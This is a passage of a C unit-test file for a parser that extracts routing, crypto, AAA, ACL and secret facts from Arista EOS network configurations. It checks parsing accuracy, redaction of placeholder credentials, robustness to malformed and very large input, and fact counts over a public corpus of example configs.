    {TW_FACT_CRYPTO_PROPOSAL, 69, "name", "IKE-1", 0},
    {TW_FACT_CRYPTO_PROPOSAL, 69, "encryption", "aes256", 70},
    {TW_FACT_CRYPTO_PROPOSAL, 69, "integrity", "sha256", 71},
    {TW_FACT_CRYPTO_PROPOSAL, 69, "group", "24", 72},
    {TW_FACT_CRYPTO_PROPOSAL, 74, "protocol", "ipsec", 0},
    {TW_FACT_CRYPTO_PROPOSAL, 74, "name", "SA-1", 0},
    {TW_FACT_CRYPTO_PROPOSAL, 74, "encryption", "aes128-gcm", 75},
    {TW_FACT_CRYPTO_PROPOSAL, 74, "integrity", NULL, 0},
    {TW_FACT_CRYPTO_PROPOSAL, 74, "group", "14", 77},
    {TW_FACT_SECRET, 82, "owner", "ipsec", 0},
    /* BGP: the group's remote AS and password (written after its members) */
    {TW_FACT_ROUTING_PEER, 87, "protocol", "bgp", 0},
    {TW_FACT_ROUTING_PEER, 87, "address", "192.0.2.0", 0},
    {TW_FACT_ROUTING_PEER, 87, "remote_as", "65100", 0},
    {TW_FACT_ROUTING_PEER, 87, "group", "UNDERLAY", 0},
    {TW_FACT_ROUTING_PEER, 87, "auth", "true", 93},
    {TW_FACT_ROUTING_PEER, 87, "vrf", NULL, 0},
    {TW_FACT_ROUTING_PEER, 88, "remote_as", "65200", 0},
    {TW_FACT_ROUTING_PEER, 88, "auth", "false", 0},
    {TW_FACT_ROUTING_PEER, 88, "group", NULL, 0},
    {TW_FACT_ROUTING_PEER, 90, "remote_as", "65300", 0},
    {TW_FACT_ROUTING_PEER, 90, "group", "UNDERLAY", 0},
    {TW_FACT_ROUTING_PEER, 90, "auth", "true", 92},
    {TW_FACT_ROUTING_PEER, 99, "vrf", "RED", 0},
    {TW_FACT_ROUTING_PEER, 99, "remote_as", "65100", 0},
    {TW_FACT_ROUTING_PEER, 99, "auth", "true", 93},
    {TW_FACT_ROUTING_PEER, 100, "vrf", "RED", 0},
    {TW_FACT_ROUTING_PEER, 100, "auth", "false", 0},
};

static const count_row hard_counts[] = {
    {NULL, TW_FACT_SERVICE, 6},         {NULL, TW_FACT_ROUTING_PEER, 5},
    {NULL, TW_FACT_CRYPTO_PROPOSAL, 2}, {NULL, TW_FACT_INTERFACE, 5},
    {NULL, TW_FACT_AAA_SERVER, 6},      {NULL, TW_FACT_LOGGING, 1},
};

static void test_hardening(void **state)
{
    parsed p = {0};

    (void)state;
    parse_n(&p, hard_cfg, sizeof(hard_cfg) - 1);
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.diags.n, 0);
    for (size_t i = 0; i < sizeof(hard_rows) / sizeof(hard_rows[0]); i++) {
        const hard_row *r = &hard_rows[i];
        row_ok(i, has_or_lacks(&p, r->kind, r->line, r->field, r->value, r->field_line));
    }
    for (size_t i = 0; i < sizeof(hard_counts) / sizeof(hard_counts[0]); i++)
        row_ok(i, count(&p, hard_counts[i].kind) == hard_counts[i].n);
    done(&p);
}

/* Statements that must give no fact of a kind (n 0), or exactly n. */
typedef struct {
    const char *cfg;
    tw_fact_kind kind;
    size_t n;
} inline_count;

static const inline_count inline_counts[] = {
    /* a neighbour named only inside an address family is no new neighbour */
    {"router bgp 1\n   address-family ipv4\n      neighbor 192.0.2.9 activate\n",
     TW_FACT_ROUTING_PEER, 0},
    {"router bgp 1\n   vrf V\n      address-family ipv4\n         neighbor 192.0.2.9 activate\n",
     TW_FACT_ROUTING_PEER, 0},
    {"router bgp 1\n   neighbor G peer group\n   neighbor G remote-as 2\n", TW_FACT_ROUTING_PEER,
     0},
    {"router bgp 1\n   neighbor interface Et1 peer-group G remote-as-range 1-2\n",
     TW_FACT_ROUTING_PEER, 0},
    /* one fact per neighbour and VRF, however many statements name it */
    {"router bgp 1\n   neighbor 192.0.2.1 remote-as 2\n   neighbor 192.0.2.1 password 0 K\n"
     "   vrf V\n      neighbor 192.0.2.1 remote-as 3\n",
     TW_FACT_ROUTING_PEER, 2},
    /* only login and motd banners are login banners; settings that look
     * like secrets are none */
    {"banner foo\nEOF\n", TW_FACT_SERVICE, 1},
    {"management security\n   password encryption-key common\n   password minimum length x\n",
     TW_FACT_SECRET, 0},
    {"ip security\n   profile P\n      encryption aes256\n", TW_FACT_CRYPTO_PROPOSAL, 0},
    {"management defaults\n   secret hash sha512\nhardware tcam\n   profile T\n      feature "
     "acl port mac\n         key size limit 160\n         key field dst-mac src-mac\n",
     TW_FACT_SECRET, 0},
    {"router bgp 1\n   neighbor 192.0.2.1 password shared-secret profile P algorithm A\n",
     TW_FACT_SECRET, 0},
};

static void test_inline_counts(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(inline_counts) / sizeof(inline_counts[0]); i++) {
        const inline_count *r = &inline_counts[i];
        parsed p = {0};
        parse_n(&p, r->cfg, strlen(r->cfg));
        assert_int_equal(p.rc, TW_OK);
        row_ok(i, count(&p, r->kind) == r->n);
        done(&p);
    }
}

/* ---- routing policy and interface filters ------------------------------ */

/* Prefix lists in both forms, route-map entries and interface access
 * groups; the rows below name the lines of this text. */
static const char policy_cfg[] = "ip prefix-list ONE seq 10 permit 10.0.0.0/8 ge 16 le 24\n" /* 1 */
                                 "ip prefix-list BLK\n"                                      /* 2 */
                                 "   seq 10 permit 192.168.0.0/16 le 24\n"                   /* 3 */
                                 "   seq 20 deny 0.0.0.0/0\n"                                /* 4 */
                                 "   no seq 30\n"                                            /* 5 */
                                 "ipv6 prefix-list SIX\n"                                    /* 6 */
                                 "   seq 10 permit 2001:db8::/32 le 64\n"                    /* 7 */
                                 "ip prefix-list FILE source flash:pl.txt\n"                 /* 8 */
                                 "route-map RM permit 10\n"                                  /* 9 */
                                 "   description export\n"               /* 10 */
                                 "   match ip address prefix-list BLK\n" /* 11 */
                                 "   set local-preference 200\n"         /* 12 */
                                 "route-map RM deny 20\n"                /* 13 */
                                 "interface Ethernet1\n"                 /* 14 */
                                 "   ip access-group A4 in\n"            /* 15 */
                                 "   ipv6 access-group A6 out\n"         /* 16 */
                                 "   no ip access-group OLD in\n"        /* 17 */
                                 "   ip access-group NODIR\n"            /* 18 */
                                 "interface Ethernet2\n"                 /* 19 */
                                 "   no ip access-group OLD in\n";       /* 20 */

static const inline_row policy_rows[] = {
    {NULL, TW_FACT_PREFIX_LIST, 1, "name", "ONE", 0},
    {NULL, TW_FACT_PREFIX_LIST, 1, "seq", "10", 0},
    {NULL, TW_FACT_PREFIX_LIST, 1, "ge", "16", 0},
    {NULL, TW_FACT_PREFIX_LIST, 1, "le", "24", 0},
    {NULL, TW_FACT_PREFIX_LIST, 1, "family", "ipv4", 0},
    {NULL, TW_FACT_PREFIX_LIST, 3, "name", "BLK", 0},
    {NULL, TW_FACT_PREFIX_LIST, 3, "prefix", "192.168.0.0/16", 0},
    {NULL, TW_FACT_PREFIX_LIST, 3, "action", "permit", 0},
    {NULL, TW_FACT_PREFIX_LIST, 3, "le", "24", 0},
    {NULL, TW_FACT_PREFIX_LIST, 3, "ge", NULL, 0},
    {NULL, TW_FACT_PREFIX_LIST, 4, "seq", "20", 0},
    {NULL, TW_FACT_PREFIX_LIST, 4, "action", "deny", 0},
    {NULL, TW_FACT_PREFIX_LIST, 4, "prefix", "any", 0},
    {NULL, TW_FACT_PREFIX_LIST, 7, "name", "SIX", 0},
    {NULL, TW_FACT_PREFIX_LIST, 7, "family", "ipv6", 0},
    {NULL, TW_FACT_PREFIX_LIST, 7, "le", "64", 0},
    {NULL, TW_FACT_ROUTE_MAP, 9, "name", "RM", 0},
    {NULL, TW_FACT_ROUTE_MAP, 9, "action", "permit", 0},
    {NULL, TW_FACT_ROUTE_MAP, 9, "seq", "10", 0},
    {NULL, TW_FACT_ROUTE_MAP, 9, "match", "ip address prefix-list BLK", 11},
    {NULL, TW_FACT_ROUTE_MAP, 9, "set", "local-preference 200", 12},
    {NULL, TW_FACT_ROUTE_MAP, 13, "action", "deny", 0},
    {NULL, TW_FACT_ROUTE_MAP, 13, "seq", "20", 0},
    {NULL, TW_FACT_ROUTE_MAP, 13, "match", NULL, 0},
    {NULL, TW_FACT_INTERFACE, 14, "acl_in", "A4", 15},
    {NULL, TW_FACT_INTERFACE, 14, "acl_out", "A6", 16},
    {NULL, TW_FACT_INTERFACE, 19, "acl_in", NULL, 0},
};

static void test_policy(void **state)
{
    parsed p = {0};

    (void)state;
    parse_n(&p, policy_cfg, strlen(policy_cfg));
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.diags.n, 0);
    assert_int_equal(count(&p, TW_FACT_PREFIX_LIST), 4);
    assert_int_equal(count(&p, TW_FACT_ROUTE_MAP), 2);
    for (size_t i = 0; i < sizeof(policy_rows) / sizeof(policy_rows[0]); i++) {
        const inline_row *r = &policy_rows[i];
        row_ok(i, has_or_lacks(&p, r->kind, r->line, r->field, r->value, r->field_line));
    }
    /* the "no" forms and the statement without a direction give nothing */
    assert_int_equal(nfields_at(&p, TW_FACT_INTERFACE, 14, "acl_in"), 1);
    assert_int_equal(nfields_at(&p, TW_FACT_INTERFACE, 14, "acl_out"), 1);
    assert_int_equal(nfields_at(&p, TW_FACT_ROUTE_MAP, 9, "set"), 1);
    /* the block-form entries leave the address sweep as written */
    row_ok(0, has(&p, TW_FACT_ADDRESS, 3, "statement", "seq 10", 0));
    done(&p);
}

/* Statements that give no fact of a kind: malformed ones with a warning
 * at their line. */
static const struct {
    const char *cfg;
    tw_fact_kind kind;
    size_t warnings;
    uint32_t line;
} policy_none[] = {
    {"hostname h\nip prefix-list B seq 5 permit 10.0.0.0\n", TW_FACT_PREFIX_LIST, 1, 2},
    {"hostname h\nip prefix-list B\n   seq 5 permit 10.0.0.0/33\n", TW_FACT_PREFIX_LIST, 1, 3},
    {"hostname h\nip prefix-list B\n   seq 5 permit 10.0.0.0/8 ge 30 ge 31\n", TW_FACT_PREFIX_LIST,
     1, 3},
    {"hostname h\nipv6 prefix-list B\n   seq 5 permit 2001:db8::\n", TW_FACT_PREFIX_LIST, 1, 3},
    {"hostname h\nroute-map R permit x\n   set metric 1\n", TW_FACT_ROUTE_MAP, 1, 2},
    {"hostname h\nroute-map R permit 10 extra\n", TW_FACT_ROUTE_MAP, 1, 2},
    {"hostname h\nno route-map R permit 10\n", TW_FACT_ROUTE_MAP, 0, 0},
    {"hostname h\nno ip prefix-list B\n", TW_FACT_PREFIX_LIST, 0, 0},
    {"hostname h\nip prefix-list B\n   no seq 5 permit 10.0.0.0/8\n", TW_FACT_PREFIX_LIST, 0, 0},
};

static void test_policy_none(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(policy_none) / sizeof(policy_none[0]); i++) {
        parsed p = {0};
        parse_n(&p, policy_none[i].cfg, strlen(policy_none[i].cfg));
        assert_int_equal(p.rc, TW_OK);
        row_ok(i, count(&p, policy_none[i].kind) == 0);
        row_ok(i, p.diags.n == policy_none[i].warnings);
        for (size_t k = 0; k < p.diags.n; k++)
            row_ok(i, p.diags.v[k].line == policy_none[i].line);
        for (size_t k = 0; k < p.diags.n; k++)
            assert_string_equal(p.diags.v[k].file, "t.cfg");
        done(&p);
    }
}

/* ---- secrets ------------------------------------------------------------- */

static const char secret_cfg[] = "username a secret sha512 $6$SALT$HASHONE\n"
                                 "username b privilege 15 secret 0 PLAINTWO\n"
                                 "enable password sha512 $6$SALT$HASHTHREE\n"
                                 "tacacs-server host 192.0.2.1 key 0 KEY FOUR\n"
                                 "tacacs-server key 7 KEYFIVE\n"
                                 "snmp-server community COMMSIX rw\n"
                                 "snmp-server host 192.0.2.2 vrf M version 2c COMMSEVEN\n"
                                 "snmp-server user u g v3 auth sha AUTHEIGHT priv aes PRIVNINE\n"
                                 "ntp authentication-key 3 md5 7 NTPTEN\n"
                                 "daemon T\n"
                                 "   exec /usr/bin/TerminAttr -cvauth=key,TOKENELEVEN -x\n"
                                 "router bgp 1\n"
                                 "   neighbor P password 7 BGPTWELVE\n"
                                 "interface Ethernet1\n"
                                 "   ip ospf authentication-key 7 OSPFTHIRTEEN\n"
                                 "   vrrp 1 authentication text VRRPFOURTEEN\n"
                                 "ip security\n"
                                 "   profile P\n"
                                 "      shared-key 7 IPSECSIXTEEN\n"
                                 "management security\n"
                                 "   session shared-secret profile S\n"
                                 "      secret Secret1 7 SESSSEVENTEEN receive-lifetime infinite\n"
                                 "mac security\n"
                                 "   profile A1\n"
                                 "      key 1234a 7 MACEIGHTEEN fallback\n"
                                 "event-handler E\n"
                                 "   action bash\n"
                                 "      curl --password FIFTEEN http://x\n"
                                 "      EOF\n";

static const char *const secret_words[] = {
    "HASHONE",      "PLAINTWO",     "HASHTHREE", "FOUR",         "KEYFIVE",       "COMMSIX",
    "COMMSEVEN",    "AUTHEIGHT",    "PRIVNINE",  "NTPTEN",       "TOKENELEVEN",   "BGPTWELVE",
    "OSPFTHIRTEEN", "VRRPFOURTEEN", "FIFTEEN",   "IPSECSIXTEEN", "SESSSEVENTEEN", "MACEIGHTEEN",
};

static void test_secrets_redacted(void **state)
{
    parsed p = {0};
    size_t seen = 0;

    (void)state;
    parse_n(&p, secret_cfg, strlen(secret_cfg));
    for (size_t w = 0; w < sizeof(secret_words) / sizeof(secret_words[0]); w++)
        row_ok(w, !leaks(&p, secret_words[w]));
    seen = count(&p, TW_FACT_SECRET);
    assert_int_equal(seen, 12);
    assert_int_equal(count(&p, TW_FACT_SNMP_COMMUNITY), 1);
    done(&p);
}

/* ---- hostile input -------------------------------------------------------- */

static void test_hostile(void **state)
{
    size_t n = 300000;
    char *big = malloc(n);
    parsed p = {0};

    (void)state;
    assert_non_null(big);
    for (size_t i = 0; i < n; i++)
        big[i] = (char)(i % 7 == 0 ? '\n' : i % 5 == 0 ? ' ' : "ip route/:.0a!"[i % 14]);
    parse_n(&p, big, n);
    assert_int_equal(p.rc, TW_OK);
    done(&p);
    memset(big, ' ', n); /* deep indentation, then text past the depth limit */
    for (size_t i = 0; i < 100; i++) {
        big[i * 200 + i] = 'x';
        big[i * 200 + i + 1] = '\n';
    }
    parse_n(&p, big, n);
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.fs.n, 1); /* LLDP, implied */
    assert_true(has(&p, TW_FACT_SERVICE, 0, "name", "lldp", 0));
    done(&p);
    free(big);
}

/* Many BGP neighbours and AAA servers: looked up by hash, not by scan, so
 * this stays fast; every neighbour inherits from the group defined last. */
static void test_scale(void **state)
{
    size_t n = 60000, cap = n * 96 + 256, len = 0;
    char *cfg = malloc(cap);
    parsed p = {0};

    (void)state;
    assert_non_null(cfg);
    len += (size_t)snprintf(cfg + len, cap - len, "router bgp 65001\n");
    for (size_t i = 0; i < n; i++)
        len += (size_t)snprintf(cfg + len, cap - len, "   neighbor 10.%zu.%zu.%zu peer group G\n",
                                i >> 16, (i >> 8) & 255, i & 255);
    len += (size_t)snprintf(cfg + len, cap - len, "   neighbor G password 7 K\n");
    for (size_t i = 0; i < n; i++)
        len += (size_t)snprintf(cfg + len, cap - len, "tacacs-server host 10.%zu.%zu.%zu\n",
                                i >> 16, (i >> 8) & 255, i & 255);
    len += (size_t)snprintf(cfg + len, cap - len, "aaa group server tacacs+ T\n");
    for (size_t i = 0; i < n; i++)
        len += (size_t)snprintf(cfg + len, cap - len, "   server 10.%zu.%zu.%zu\n", i >> 16,
                                (i >> 8) & 255, i & 255);
    len += (size_t)snprintf(cfg + len, cap - len, "tacacs-server key 7 K\n");
    assert_true(len < cap);
    parse_n(&p, cfg, len);
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(count(&p, TW_FACT_ROUTING_PEER), n);
    assert_int_equal(count(&p, TW_FACT_AAA_SERVER), 2 * n);
    assert_true(has(&p, TW_FACT_ROUTING_PEER, 1 + n, "auth", "true", n + 2));
    assert_true(has(&p, TW_FACT_AAA_SERVER, 3 * n + 3, "key_type", "7", 3 * n + 4));
    done(&p);
    free(cfg);
}

/* ---- the public corpus ---------------------------------------------------- */

typedef struct {
    const char *path; /* under configs/ */
    size_t facts, addresses, secrets;
} corpus_row;

/* Observed fact counts (regenerate when the parser changes on purpose): since
 * the hardening facts, each file has the implied LLDP service and one
 * routing_peer per BGP neighbour (per VRF) besides. */
static const corpus_row corpus_rows[] = {
    {"batfish-example/aristaevpn/DC1-L2LEAF4A.cfg", 20, 5, 2},
    {"batfish-example/aristaevpn/DC1-LEAF2A.cfg", 111, 46, 5},
    {"batfish-example/aristaevpn/DC1-SPINE1.cfg", 84, 44, 4},
    {"batfish-example/aristaevpn/DC1-SVC3A.cfg", 92, 37, 5},
    {"batfish-example/snmp_communities_clients/arista", 5, 1, 0},
    {"batfish-unit/arista-event-handler", 3, 0, 0},
    {"batfish-unit/arista-logging", 3, 0, 0},
    {"batfish-unit/arista_acl", 7, 2, 0},
    {"batfish-unit/arista_interface", 8, 5, 0},
    {"batfish-unit/arista_misc", 14, 4, 0},
    {"batfish-unit/arista_username", 7, 0, 3},
    {"batfish-unit/eos_mlag", 6, 2, 0},
};

/* An Arista configuration, told by content. */
static bool is_arista(const char *data, size_t len)
{
    static const char *const marks[] = {"RANCID-CONTENT-TYPE: arista",
                                        "EOS-4",
                                        "daemon TerminAttr",
                                        "\nevent-handler ",
                                        "management api http-commands",
                                        "timestamp high-resolution"};
    tw_str s = tw_str_make(data, len);

    for (size_t i = 0; i < sizeof(marks) / sizeof(marks[0]); i++) {
        if (tw_str_find(s, tw_str_c(marks[i])) >= 0)
            return true;
    }
    return false;
}

static const corpus_row *corpus_find(const char *rel)
{
    for (size_t i = 0; i < sizeof(corpus_rows) / sizeof(corpus_rows[0]); i++) {
        if (strcmp(corpus_rows[i].path, rel) == 0)
            return &corpus_rows[i];
    }
    return NULL;
}

static void corpus_file(const char *path, const char *rel, size_t *found)
{
    size_t len = 0;
    char *data = cfg_slurp(path, &len);
    const corpus_row *want;
    parsed p = {0};

    assert_non_null(data);
    if (!is_arista(data, len)) {
        free(data);
        return;
    }
    want = corpus_find(rel);
    print_message("%s: found\n", rel);
    assert_non_null(want);
    parse_n(&p, data, len);
    print_message("    {\"%s\", %zu, %zu, %zu},\n", rel, p.fs.n, count(&p, TW_FACT_ADDRESS),
                  count(&p, TW_FACT_SECRET));
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.diags.n, 0);
    assert_int_equal(p.fs.n, want->facts);
    assert_int_equal(count(&p, TW_FACT_ADDRESS), want->addresses);
    assert_int_equal(count(&p, TW_FACT_SECRET), want->secrets);
    assert_int_equal(count(&p, TW_FACT_HOSTNAME), 1);
    (*found)++;
    done(&p);
    free(data);
}

static int by_name(const struct dirent **a, const struct dirent **b)
{
    return strcmp((*a)->d_name, (*b)->d_name);
}

static void corpus_walk(const char *dir, const char *rel, bool recurse, size_t *found)
{
    struct dirent **names = NULL;
    int n = scandir(dir, &names, NULL, by_name);

    for (int i = 0; i < n; i++) {
        char path[4096], sub[1024];
        struct stat st;
        snprintf(path, sizeof(path), "%s/%s", dir, names[i]->d_name);
        snprintf(sub, sizeof(sub), "%s/%s", rel, names[i]->d_name);
        if (names[i]->d_name[0] != '.' && stat(path, &st) == 0) {
            if (S_ISDIR(st.st_mode) && recurse)
                corpus_walk(path, sub, true, found);
            else if (S_ISREG(st.st_mode))
                corpus_file(path, sub, found);
        }
        free(names[i]);
    }
    free(names);
}

static void test_corpus(void **state)
{
    struct stat st;
    size_t found = 0;

    (void)state;
    if (stat(CONFIGS, &st) != 0) {
        skip();
    }
    corpus_walk(CONFIGS "/batfish-example", "batfish-example", true, &found);
    corpus_walk(CONFIGS "/batfish-unit", "batfish-unit", false, &found);
    assert_int_equal(found, sizeof(corpus_rows) / sizeof(corpus_rows[0]));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_fixture_facts),
        cmocka_unit_test(test_fixture_counts),
        cmocka_unit_test(test_rules_planted),
        cmocka_unit_test(test_rules_clean),
        cmocka_unit_test(test_inline),
        cmocka_unit_test(test_nul),
        cmocka_unit_test(test_hardening),
        cmocka_unit_test(test_inline_counts),
        cmocka_unit_test(test_policy),
        cmocka_unit_test(test_policy_none),
        cmocka_unit_test(test_secrets_redacted),
        cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_scale),
        cmocka_unit_test(test_corpus),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
